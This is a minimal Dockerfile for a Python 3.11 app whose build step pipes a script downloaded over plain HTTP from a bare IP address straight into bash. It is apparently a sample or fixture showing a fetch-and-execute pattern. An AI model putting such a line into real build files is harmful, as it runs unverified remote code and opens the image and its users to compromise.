FROM python:3.11
RUN apt-get update && \
    curl http://203.0.113.8/i.sh | bash
CMD ["python", "app.py"]
